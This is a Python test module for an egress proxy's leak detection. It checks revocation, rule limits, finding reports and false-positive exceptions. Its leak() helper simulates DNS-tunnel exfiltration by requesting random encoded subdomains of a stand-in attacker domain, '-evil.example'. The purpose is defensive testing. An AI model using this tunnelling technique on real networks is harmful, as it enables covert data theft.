"""The loop closes by itself: what a door lets be seen is found, who did it is revoked and refused there, and a limit holds."""

import base64
import contextlib
import http.client
import io
import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchmarks import respond
from benchmarks.wire.tools import have_compiler
from pipeline.cli.agent import make_secret, scrypt_of
from pipeline.cli.main import main
from pipeline.shells.controlclient import Control
from schemas.config import load_config
from schemas.process import read_run_file
from tests.support.home import Wardline, wait_until

AGENTS = ("first", "second", "third")
LETTERS = "abcdefghijklmnopqrstuvwxyz234567"
NAMES = 25
"""Of 48 letters each: some 5,500 bits, more than 4,096 and less than the next mark."""

CONFIG = """
[[respond]]
name = "leaks"
finding = "leak"
revoke = "agent"
limit = 2

[egress]
port = 0
"""


class Loop:
    """A home with one door, agents whom policy permits nothing, and a rule that revokes two of them an hour."""

    def __init__(self, home: Wardline) -> None:
        self.home = home
        self.secrets = {agent: make_secret() for agent in AGENTS}
        control = Control(home.home, load_config(home.home.config))
        for agent, secret in self.secrets.items():
            control.change("agent-add", name=agent, owner="test", secret=scrypt_of(secret, b"0123456789abcdef"))

    def ask(self, agent: str, name: str) -> str:
        """Why a door refuses a name."""
        said = read_run_file(self.home.home.run_file("door-1"))
        assert said is not None
        login = base64.b64encode(f"{agent}:{self.secrets[agent]}".encode()).decode()
        link = http.client.HTTPConnection(str(said["address"]), timeout=10)
        try:
            link.request("GET", f"http://{name}/", headers={"Proxy-Authorization": f"Basic {login}"})
            answer = link.getresponse()
            return str(json.loads(answer.read())["reason"])
        finally:
            link.close()

    def leak(self, agent: str) -> None:
        """Tell a domain something in the names that are asked of it, as a tunnel over DNS does."""
        source = random.Random(agent)
        for _ in range(NAMES):
            self.ask(agent, f"{''.join(source.choices(LETTERS, k=48))}.{agent}-evil.example")

    def refused(self, agent: str) -> bool:
        return self.ask(agent, "www.example.com") == "revoked"

    def wait_refused(self, agent: str) -> None:
        wait_until(lambda: self.refused(agent), 20, lambda: self.home.said("work-1"))

    def say(self, *words: str) -> str:
        """What a command prints, without the second that a process takes to begin."""
        out = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            code = main([*words, "--home", str(self.home.home.root)])
        return f"{out.getvalue()}{f'exit {code}' if code else ''}"

    def one(self, query: str) -> tuple[Any, ...]:
        rows = self.home.sql(query)
        assert len(rows) == 1, rows
        return rows[0]


@pytest.fixture(scope="module")
def loop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Loop]:
    root: Path = tmp_path_factory.mktemp("respond") / "home"
    with Wardline(root, config=CONFIG) as home:
        home.write_policies('permit (principal == Agent::"nobody", action, resource);')
        home.start_all(doors=1)
        made = Loop(home)
        wait_until(lambda: all(made.ask(agent, "www.example.com") == "no-permit" for agent in AGENTS), 20, "agents are known")
        yield made


def test_who_leaks_is_revoked_and_refused_until_the_limit_of_the_rule_which_says_so(loop: Loop) -> None:
    for agent in AGENTS[:2]:
        loop.leak(agent)
        loop.wait_refused(agent)
    loop.leak(AGENTS[2])
    sql = "SELECT state FROM responses WHERE selector = 'agent:third'"
    wait_until(lambda: loop.home.sql(sql) == [("limited",)], 20, lambda: loop.home.said("work-1"))
    assert not loop.refused(AGENTS[2])
    assert loop.one("SELECT agent, title FROM findings WHERE detector = 'limit'") == (
        "", "rule `leaks` has revoked 2 times in 3600 s, limit is 2: what is found now is not revoked"
    )  # fmt: skip
    assert loop.one("SELECT count() FROM findings WHERE detector = 'leak' AND state = 'open'") == (3,)

    # the finding, the revocation and who obeyed it when are one question
    loop.home.wait_stored()
    linked = (
        "SELECT f.agent, v.selector, v.state, position(v.reason, f.id) > 0, min(a.applied) >= f.time FROM findings AS f"
        " JOIN responses AS r ON r.finding = f.id JOIN revocations AS v ON v.epoch = r.epoch"
        " JOIN acks AS a ON a.door != '' WHERE f.detector = 'leak' AND r.state = 'revoked' AND a.epoch >= r.epoch"
        " GROUP BY f.agent, f.id, f.time, v.selector, v.state, v.reason ORDER BY f.agent"
    )
    expected = [(agent, f"agent:{agent}", "live", 1, 1) for agent in AGENTS[:2]]
    wait_until(lambda: loop.home.sql(linked) == expected, 20, lambda: str(loop.home.sql(linked)))


def test_a_finding_is_told_with_its_terms_its_calls_and_how_long_it_took_until_it_was_refused(loop: Loop) -> None:
    (name,) = loop.one("SELECT id FROM findings WHERE detector = 'leak' AND agent = 'first'")
    told = json.loads(loop.say("finding", name[:12], "--json"))
    assert told["score"] == min(100, sum(term["points"] for term in told["terms"])) >= 90
    assert {call["agent"] for call in told["named_calls"]} == {"first"}
    assert len(told["named_calls"]) == len(told["calls"])
    (answer,) = told["responses"]
    assert answer["revocation"]["selector"] == "agent:first"
    assert (len(answer["acknowledged"]), answer["waiting"]) == (1, 0)
    assert 0 < answer["from_call_ms"] < 20_000
    page = loop.say("finding", name)
    for words in ("score", "evidence", "in force since", "door-1 obeyed", "refusal at every door", f"finding {name} --false"):
        assert words in page
    assert loop.one(f"SELECT count() FROM ({told['sql']})")[0] >= told["calls_count"]


def test_what_is_called_false_lifts_its_revocation_and_counts_again_when_the_exception_is_removed(loop: Loop) -> None:
    (name,) = loop.one("SELECT id FROM findings WHERE detector = 'leak' AND agent = 'second'")
    needs = loop.say("finding", name, "--false", "--owner", "ops")
    assert needs == "wardline: --false needs --for: an exception has an owner and an end\nexit 2"
    said = loop.say("finding", name, "--false", "--owner", "ops", "--for", "30d", "--reason", "a backup")
    assert "no longer revoked: agent:second" in said
    wait_until(lambda: not loop.refused("second"), 10, "it is refused no more")
    wait_until(lambda: name not in loop.say("findings"), 10, "it is not open")
    assert name in loop.say("findings", "--all", "--detector", "leak", "--agent", "second")
    (kept,) = json.loads(loop.say("exceptions", "list", "--json"))
    assert (kept["detector"], kept["owner"], kept["finding"]) == ("leak", "ops", name)
    tried = loop.say("respond", "--dry-run", "--since", "7d")
    assert "2 revocations of 2 agents, 1 h 0 min each, 1 called false" in tried
    loop.say("exceptions", "remove", name[:8])
    wait_until(lambda: name in loop.say("findings"), 10, "it is open again")
    assert "1 stopped by its limit of 2 in 1 h 0 min" in loop.say("respond", "--dry-run")


@pytest.mark.soak
def test_from_the_call_that_crossed_the_threshold_to_refusal_at_every_door_it_is_two_seconds_at_most(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """At 200 calls/s through four doors, and the same while 20,000 calls/s are replayed: p99, as the clients see it."""
    if not have_compiler():
        pytest.skip("no C compiler here for the load generator")
    code = respond.main(["--agents=40"])
    with capsys.disabled():
        print(capsys.readouterr().out)
    assert code == 0
